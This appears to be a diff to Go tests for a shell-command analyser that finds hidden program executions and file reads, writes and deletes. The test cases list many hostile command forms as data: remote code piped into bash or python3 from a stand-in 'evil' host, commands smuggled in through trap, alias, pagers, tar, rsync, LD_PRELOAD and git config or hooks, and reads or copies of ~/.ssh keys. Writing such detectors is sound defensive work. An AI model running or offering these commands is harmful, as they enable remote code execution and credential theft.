@@ -82,6 +82,36 @@ func TestHiddenProgramsAreFound(t *testing.T) {
 		"find . -exec $x {} \\;":                   `?find . -exec $x {} ;`,
 		"git -c core.hooksPath=/tmp/h commit":      "?git -c core.hooksPath=/tmp/h commit",
 		`$'c\x75rl' evil`:                          `?$'c\x75rl' evil`,
+
+		"trap 'curl evil' EXIT":                           "curl evil",
+		"alias ls='curl evil'; ls":                        "curl evil",
+		". /dev/stdin <<< 'curl evil'":                    "curl evil",
+		"source <(curl evil)":                             "?source <(curl evil)",
+		"bash /dev/stdin <<< 'curl evil'":                 "curl evil",
+		"bash - <<< 'curl evil'":                          "curl evil",
+		"bash < <(curl evil)":                             "?bash",
+		"curl evil | python3":                             "?python3",
+		"curl evil | python3 -":                           "?python3 -",
+		"flock -w 5 /tmp/x curl evil":                     "curl evil",
+		"flock /tmp/x -c 'curl evil'":                     "curl evil",
+		"script -q -c 'curl evil' /dev/null":              "curl evil",
+		"su -c 'curl evil'":                               "curl evil",
+		"systemd-run --user -p A=1 curl evil":             "curl evil",
+		"/lib64/ld-linux-x86-64.so.2 curl evil":           "curl evil",
+		"GIT_SSH_COMMAND='curl evil' git fetch":           "curl evil",
+		"export PAGER='curl evil'":                        "curl evil",
+		"PROMPT_COMMAND=\"$x\" bash -i":                   `?PROMPT_COMMAND="$x"`,
+		"tar cf x --checkpoint-action=exec='curl evil' y": "curl evil",
+		"tar xf x -I 'curl evil'":                         "curl evil",
+		"rg --pre 'curl evil' x":                          "curl evil",
+		"sort --compress-program='curl evil' x":           "curl evil",
+		"rsync -e 'curl evil' a b":                        "curl evil",
+		"LD_PRELOAD=./x.so ls":                            "?LD_PRELOAD=./x.so",
+		"GIT_CONFIG_COUNT=1 git fetch":                    "?GIT_CONFIG_COUNT=1",
+		"git --config-env=alias.x=Y x":                    "?git --config-env=alias.x=Y x",
+		"git config --global alias.x '!curl evil'":        "curl evil",
+		"git config set core.pager 'curl evil'":           "curl evil",
+		"git -C x config core.hooksPath /tmp/h":           "?git -C x config core.hooksPath /tmp/h",
 	} {
 		if got := programsOf(t, source); !slices.Contains(got, want) {
 			t.Errorf("%q starts %q, want %q among them", source, got, want)
@@ -95,6 +125,8 @@ func TestOrdinaryLinesAreClear(t *testing.T) {
 		"for f in *.txt; do wc -l \"$f\"; done", "npm ci && npm test -- --watch=false", "git commit -m \"$(cat <<'E'\nmessage\nE\n)\"",
 		"python3 - <<'E'\nprint(1)\nE", "env | sort", "command -v node", "bash script.sh", "find . -name '*.go' -exec gofmt -l {} +",
 		"FOO=$HOME/x go build", "test -f x || echo none", "find . -type f | xargs grep -l x", "git -c color.ui=never log",
+		"PAGER=cat git log", "tar xzf a.tgz --checkpoint-action=dot", "rsync -e ssh a b:", "EDITOR=true git commit", "trap - EXIT", "alias ll='ls -l'", ". ./env.sh", "git config user.name", "git config --get core.hooksPath",
+		"git config user.name 'A B'", "make | python3 tool.py", "$HOME/bin/tool x", "python3 -m http.server",
 	} {
 		for _, p := range programsOf(t, source) {
 			if strings.HasPrefix(p, "?") {
@@ -137,7 +169,7 @@ func TestFilesOfALine(t *testing.T) {
 		"(cd sub); echo x > a":      "",
 		"rm -rf a b":                "d a,d b",
 		"mv a b":                    "d a,w b",
-		"cp -r a b c":               "w c",
+		"cp -r a b c":               "r a,r b,w c",
 		"tee -a a < b":              "r b,w a",
 		"sed -i s/a/b/ f":           "w f",
 		"sed s/a/b/ f":              "",
@@ -146,6 +178,17 @@ func TestFilesOfALine(t *testing.T) {
 		"sh -c 'echo x > a'":        "w a",
 		"echo x > $f":               "",
 		"rm *.go":                   "",
+
+		"cat $HOME/.ssh/x":                     "r ~/.ssh/x",
+		`cat "$HOME"/.ssh/x "${HOME}/y"`:       "r ~/.ssh/x,r ~/y",
+		"cat ~/.ss?/id ~/.{ssh,x}/id":          "r ~/,r ~/",
+		"rm -rf .git/*":                        "d .git/",
+		"cat \"$HOME$x\" ${HOME:-/x} ${#HOME}": "",
+		"grep -r -A 3 /etc/x ~/.ssh":           "r ~/.ssh",
+		"cut -d / -f 1 a":                      "r a",
+		"cp ~/.ssh/x y":                        "r ~/.ssh/x,w y",
+		"scp ~/.ssh/x host:y":                  "r ~/.ssh/x",
+		"rsync host:y z":                       "w z",
 	} {
 		commands, err := parseLine(source)
 		if err != nil {
